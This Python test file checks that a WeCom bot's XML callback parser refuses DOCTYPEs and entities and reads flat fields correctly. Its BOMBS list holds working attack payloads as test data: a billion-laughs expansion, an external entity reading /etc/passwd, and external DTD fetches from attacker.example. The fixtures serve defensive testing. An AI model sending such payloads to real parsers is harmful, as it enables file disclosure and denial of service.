"""The expat reader that parses every callback (envelope and event) before the 200.

It replaced xmltodict for speed; these pin down that it refuses what must be refused (any
DOCTYPE, so no entity can be declared or expanded) and reads fields as xmltodict did.
"""

from __future__ import annotations

import pytest

from bot.wecom.callback_checks import envelope_encrypt
from bot.wecom.crypto import CallbackRejected
from bot.wecom.events import MalformedEvent, parse_xml

BOMBS = [
    # billion laughs
    '<?xml version="1.0"?><!DOCTYPE xml [<!ENTITY a "aaaaaaaaaa">'
    '<!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">]>'
    "<xml><Encrypt>&c;</Encrypt></xml>",
    # external entity (file disclosure)
    '<!DOCTYPE xml [<!ENTITY e SYSTEM "file:///etc/passwd">]><xml><Encrypt>&e;</Encrypt></xml>',
    # parameter entity, external DTD
    '<!DOCTYPE xml [<!ENTITY % p SYSTEM "http://attacker.example/x.dtd"> %p;]><xml/>',
    '<!DOCTYPE xml SYSTEM "http://attacker.example/x.dtd"><xml><Encrypt>x</Encrypt></xml>',
    # a DOCTYPE without any entity is refused too: there is no reason for one
    "<!DOCTYPE xml><xml><Encrypt>x</Encrypt></xml>",
    # an entity used without a DOCTYPE is simply undefined
    "<xml><Encrypt>&e;</Encrypt></xml>",
]


@pytest.mark.parametrize("document", BOMBS)
def test_doctype_and_entities_are_refused(document: str):
    with pytest.raises(MalformedEvent, match="invalid XML"):
        parse_xml(document)
    with pytest.raises(CallbackRejected):
        envelope_encrypt(document.encode())


def test_fields_are_read_as_stored_before():
    fields = parse_xml(
        "<xml>\n  <ToUserName><![CDATA[ww1]]></ToUserName>\n"
        "  <CreateTime>1700000000</CreateTime>\n  <Content><![CDATA[ 你好 &amp; <b> ]]></Content>\n"
        "  <Empty></Empty><Blank/><Text>a &amp; b</Text>\n</xml>")
    assert fields == {"ToUserName": "ww1", "CreateTime": "1700000000", "Content": "你好 &amp; <b>",
                      "Empty": "", "Blank": "", "Text": "a & b"}


def test_child_elements_are_kept_in_order_not_refused():
    """ExtAttr, BatchJob, ApprovalInfo...: kept whole so that the callback is recorded."""
    fields = parse_xml("<xml><ExtAttr><Item><Name>爱好</Name><Text><Value>旅游</Value></Text>"
                       "</Item><Item><Name>卡号</Name></Item></ExtAttr><Event>x</Event></xml>")
    assert fields == {"ExtAttr": [["Item", [["Name", "爱好"], ["Text", [["Value", "旅游"]]]]],
                                  ["Item", [["Name", "卡号"]]]],
                      "Event": "x"}


def test_markup_inside_cdata_is_text_not_a_doctype():
    fields = parse_xml("<xml><Content><![CDATA[<!DOCTYPE html><!ENTITY x 'y'>]]></Content></xml>")
    assert fields == {"Content": "<!DOCTYPE html><!ENTITY x 'y'>"}


@pytest.mark.parametrize(("document", "reason"), [
    ("<xml><A>1</A><A>2</A></xml>", "field A must be text"),
    ('<xml><A kind="x">1</A></xml>', "field A must be text"),
    ('<xml><A><B k="1">1</B></A></xml>', "field A must be text"),
    ("<xml>" + "<A>" * 13 + "</A>" * 13 + "</xml>", "field A must be text"),
    ("<root><A>1</A></root>", "missing <xml> root element"),
    ("<xml><MemChangeList><Item>a</Item><Item/></MemChangeList></xml>", "MemChangeList"),
    ("<xml><MemChangeList><Who>a</Who></MemChangeList></xml>", "MemChangeList must be text"),
    ("<xml><A>1</A>", "invalid XML"),
    ("", "invalid XML"),
])
def test_what_is_not_a_flat_callback_is_refused(document: str, reason: str):
    with pytest.raises(MalformedEvent, match=reason):
        parse_xml(document)


def test_envelope_bytes_give_the_encrypt_value():
    body = (b"<xml><ToUserName><![CDATA[ww1]]></ToUserName><Encrypt><![CDATA[abc+/=]]>"
            b"</Encrypt><AgentID><![CDATA[1000002]]></AgentID></xml>")
    assert envelope_encrypt(body) == "abc+/="
